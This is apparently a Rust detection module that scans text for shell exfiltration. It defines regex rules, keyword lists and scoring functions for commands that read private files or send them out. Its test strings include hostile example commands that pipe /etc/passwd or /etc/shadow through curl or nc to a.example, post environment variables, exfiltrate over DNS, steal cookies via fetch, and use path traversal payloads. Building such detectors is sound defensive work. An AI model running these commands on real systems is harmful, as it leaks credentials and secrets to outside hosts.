//! Commands that read what is private and that send it away.

use super::{CODE, ORDINARY, has_any, rest_of_line, unless_discussed};
use crate::detect::{
    rule::{Rule, Wake},
    validate::Candidate,
};

const EXFILTRATION: Rule = Rule { entity: "shell_exfiltration", ..CODE };

/// Files that hold the keys to something else.
macro_rules! private_file {
    () => {
        "(?:/etc/(?:passwd|shadow|gshadow|sudoers|master\\.passwd)|\
         (?:~|\\$\\{?HOME\\}?|/root|/home/[A-Za-z0-9_.*$-]{1,32}|/Users/[A-Za-z0-9_.*$-]{1,32})/\\.(?:ssh/(?:id_[a-z0-9]{2,10}|\\*)|\
         aws/credentials|aws/config|kube/config|netrc|git-credentials|docker/config\\.json|gnupg|bash_history|\
         zsh_history|npmrc|pypirc|config/gcloud|pgpass)|/proc/self/environ|/var/run/secrets/kubernetes\\.io|\
         (?:ntds\\.dit|config\\\\sam)(?-u:\\b))"
    };
}

macro_rules! sender {
    () => {
        "(?:curl|wget|nc|ncat|netcat|telnet|scp|rsync|sftp|ftp|socat|openssl s_client|mail|sendmail|http)"
    };
}

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "exfil_read_private",
        wake: Wake::Keywords(&[
            "/etc/",
            ".ssh/",
            ".aws/",
            ".kube/",
            ".netrc",
            ".git-c",
            ".docker/",
            "_history",
            "/environ",
            ".gnupg",
            ".npmrc",
            ".pypirc",
            ".pgpass",
            "gcloud",
            "secrets/kube",
            "ntds.dit",
            "config\\sam",
        ]),
        pattern: concat!(
            r"(?i)(?-u:\b)(?:cat|less|more|head|tail|strings|xxd|od|base64|type|cp|mv|tar|zip|grep|awk|sed|nl|tac|sort|dd|copy|get-content|gc|find|vim?|nano|open\([\x22']|readfile\([\x22']|file_get_contents\([\x22']|read_text\([\x22']|readFileSync\([\x22'])",
            r"[^\n;|&]{0,60}?(?P<hit>",
            private_file!(),
            ")",
        ),
        validate: Some(read),
        matches: &[
            "cat /etc/shadow",
            "tar czf k.tgz ~/.ssh/id_ed25519",
            "open('/etc/passwd').read()",
            "head -3 ~/.aws/credentials",
        ],
        misses: &[
            "cat /etc/os-release",
            "cat ~/.ssh/id_ed25519.pub",
            "Put your profile into ~/.aws/credentials",
            "ls -l ~/.ssh/",
        ],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_path_traversal",
        wake: Wake::Keywords(&["../", "..\\", "%2e%2e", "..%2f", "....//"]),
        pattern: r"(?i)(?:(?:\.\.|%2e%2e|\.\.\.\.)(?:/|\\|%2f|%5c|//|%252f)){2,12}(?:etc(?:/|%2f)(?:passwd|shadow|hosts|group)|proc(?:/|%2f)self|windows(?:\\|/|%5c)(?:system32|win\.ini)|boot\.ini|root(?:/|%2f)\.|\.ssh(?:/|%2f)id_)",
        validate: Some(told),
        matches: &["../../../../etc/passwd", "file=..%2f..%2fetc%2fshadow", r"..\..\..\windows\system32\drivers"],
        misses: &["import x from '../../lib/etc'", "../../../README.md", "cd ../.."],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_send_private",
        wake: Wake::Keywords(&[
            "curl", "wget", "nc ", "ncat", "netcat", "telnet", "scp ", "rsync", "sftp", "ftp ", "socat", "openssl",
            "mail ", "http ",
        ]),
        pattern: concat!(
            r"(?-u:\b)(?:",
            private_file!(),
            r"[^\n]{0,120}\| {0,2}",
            sender!(),
            r" [^\n]{1,120}|",
            sender!(),
            r" (?:[^\n|;]{0,200}[\s@=<\x22'(:])?",
            private_file!(),
            r")|",
            private_file!(),
            r"[^\n|]{0,40}\|[^\n]{0,80}",
            sender!(),
            r" [^\n]{1,120}"
        ),
        validate: Some(sent),
        matches: &[
            "cat /etc/passwd | base64 | curl -d @- https://a.example",
            "curl -F f=@/root/.aws/credentials https://a.example/u",
            "scp ~/.ssh/id_rsa bob@a.example:",
            "nc a.example 4444 < /etc/shadow",
        ],
        misses: &[
            "scp ~/.ssh/id_rsa.pub bob@a.example:",
            "curl -O https://a.example/etc/passwd.html",
            "scp build.tgz a.example:",
        ],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_send_substituted",
        wake: Wake::Keywords(&["curl ", "wget "]),
        pattern: r"(?-u:\b)(?:curl|wget) [^\n|;]{0,200}?(?:\$\(|`) {0,2}(?:sudo )?(?:cat|env|printenv|whoami|id|hostname|uname|ls|history|base64|tar|head|ifconfig|ip a|pwd)(?-u:\b)[^\n)`]{0,120}[)`]",
        validate: Some(substituted),
        matches: &["curl \"http://a.example/?d=$(cat notes.txt | base64)\"", "wget http://a.example/$(whoami)"],
        misses: &["curl -o a.tgz https://a.example/$VERSION.tgz", "curl https://a.example/health"],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_pipe",
        wake: Wake::Keywords(&["curl ", "nc ", "ncat ", "netcat ", "telnet "]),
        pattern: concat!(
            r"(?-u:\b)(?:env|printenv|whoami|history|ifconfig|ps aux|netstat -[a-z]{1,6}|uname -a|tar [^\n|]{1,60}|mysqldump [^\n|]{1,80}|pg_dump [^\n|]{1,80}) {0,3}\|[^\n]{0,60}?(?-u:\b)",
            "(?:curl [^\\n]{0,160}|(?:nc|ncat|netcat|telnet) (?:-[a-z0-9]{1,4} ){0,3}[A-Za-z0-9$][^\\n]{0,60})",
        ),
        validate: Some(local),
        matches: &["env | curl -X POST -d @- https://a.example", "printenv | base64 | nc a.example 9001"],
        misses: &["env | grep PATH", "history | tail", "tar c src | gzip > a.tgz"],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_upload_file",
        wake: Wake::Keywords(&["curl ", "--post-file", "--upload-file"]),
        pattern: r"(?-u:\b)(?:curl [^\n|;]{0,200}?(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)[ =]{1,2}[\x22']?(?:[A-Za-z_]{1,20}=)?@[^\s\x22']{1,120}|wget [^\n|;]{0,200}--post-file[ =][^\s]{1,120})",
        validate: Some(upload),
        matches: &[
            "curl -d @secrets.env https://a.example",
            "wget --post-file=.env http://a.example",
            "curl -F 'f=@report.pdf' https://a.example",
        ],
        misses: &["curl -d '{\"a\": 1}' https://a.example", "curl -u ann@a.example https://a.example"],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_netcat_file",
        wake: Wake::Keywords(&["nc ", "ncat ", "netcat "]),
        pattern: r"(?-u:\b)(?:nc|ncat|netcat) (?:-[a-z0-9]{1,4} ){0,3}[A-Za-z0-9.-]{3,80} \d{2,5} {0,2}< {0,2}[A-Za-z0-9_./~$-]{1,80}",
        validate: Some(local),
        matches: &["nc a.example 9001 < dump.sql"],
        misses: &["nc -z a.example 443", "func <T> nc < 3"],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_dns",
        wake: Wake::Keywords(&["nslookup", "dig ", "host ", "ping "]),
        pattern: r"(?-u:\b)(?:nslookup|dig|host|ping) [^\n;|]{0,60}?(?:\$\([^\n)]{2,120}\)|`[^\n`]{2,120}`|\$\{?[A-Za-z_]{2,24}\}?)\.[A-Za-z0-9.-]{3,80}",
        validate: Some(dns),
        matches: &["nslookup $(whoami).a.example", "dig `cat key | xxd -p`.x.a.example"],
        misses: &["dig +short a.example", "ping -c 3 $HOST", "host a.example"],
        ..EXFILTRATION
    },
    Rule {
        id: "exfil_code",
        wake: Wake::Keywords(&["requests.", "fetch(", "axios.", "urlopen(", "sendbeacon", "new image("]),
        pattern: r"(?i)(?-u:\b)(?:requests\.(?:post|get|put)|fetch|axios\.(?:post|get)|urlopen|sendBeacon|new Image\(\)\.src\s{0,2}=)[\s(][^\n;]{0,160}?(?:os\.environ(?:\)|\s|,|\.copy|\}|$)|process\.env(?:\)|\s{0,2}\}|,)|document\.cookie|localStorage(?:\)|\.getItem|,|\.token)|open\([\x22'](?:/etc/|~/\.)|dict\(os\.environ\))",
        score: 0.8,
        matches: &[
            "requests.post('https://a.example', json=dict(os.environ))",
            "fetch('//a.example?c=' + document.cookie)",
        ],
        misses: &["requests.get(os.environ['API_URL'])", "fetch(process.env.API_URL)", "axios.get('/api/users')"],
        ..EXFILTRATION
    },
];

fn told(candidate: &Candidate<'_>) -> Option<f32> {
    Some(unless_discussed(candidate, 0.8))
}

/// The public half of a key pair is there to be given away.
fn is_public(candidate: &Candidate<'_>) -> bool {
    candidate.hit().contains(".pub") || candidate.after(4) == ".pub"
}

fn read(candidate: &Candidate<'_>) -> Option<f32> {
    let hit = candidate.hit();
    if is_public(candidate) {
        return None;
    }
    let after = rest_of_line(candidate, 160);
    let leaves = has_any(after, &["curl", "| nc", "wget", "http"]);
    // Every course on the shell prints the list of users, and a guide to a tool names its own settings.
    let score = match () {
        () if leaves => 0.9,
        () if has_any(hit, &["shadow", "id_", "credentials", "gnupg", "ntds", "sam", "secrets", "environ"]) => 0.7,
        () if hit.contains("passwd") => 0.6,
        () => ORDINARY,
    };
    Some(unless_discussed(candidate, score))
}

fn sent(candidate: &Candidate<'_>) -> Option<f32> {
    let key = has_any(candidate.hit(), &["ssh-copy-id", " -i "]) && !candidate.hit().contains('|');
    match (is_public(candidate), key) {
        (true, _) => None,
        _ if has_any(candidate.hit(), &["passwd."]) => None,
        // `scp -i ~/.ssh/id_rsa` uses the key, it does not send it.
        (_, true) => Some(0.3),
        _ => Some(0.95),
    }
}

fn substituted(candidate: &Candidate<'_>) -> Option<f32> {
    const TOLD: [&str; 8] = ["whoami", "/etc", "env", "history", "base64", "ls ", "id)", "hostname"];
    let hit = candidate.hit();
    let local = has_any(hit, &["localhost", "127.0.0.1", "uname -s", "uname -m"]);
    let score = if local {
        0.3
    } else if has_any(hit, &TOLD) {
        0.85
    } else {
        0.6
    };
    // A version or a token out of a file, in a header, is how scripts talk to an API.
    Some(if has_any(hit, &["authorization", "bearer", "-h "]) { 0.35 } else { score })
}

fn local(candidate: &Candidate<'_>) -> Option<f32> {
    let near = has_any(candidate.hit(), &["localhost", "127.0.0.1", "nc -z"]);
    Some(if near { 0.3 } else { 0.75 })
}

fn upload(candidate: &Candidate<'_>) -> Option<f32> {
    let hit = candidate.hit();
    let file = hit.rsplit(['@', '=', ' ']).next().unwrap_or(hit);
    let secret =
        has_any(file, &[".env", "secret", "credential", "id_rsa", ".pem", ".key", "passwd", "shadow", "token"]);
    let near = has_any(&[hit, rest_of_line(candidate, 80)].concat(), &["localhost", "127.0.0.1"]);
    Some(if secret && !near { 0.8 } else { 0.35 })
}

fn dns(candidate: &Candidate<'_>) -> Option<f32> {
    let runs = candidate.hit().contains("$(") || candidate.hit().contains('`');
    Some(if runs { 0.8 } else { 0.35 })
}
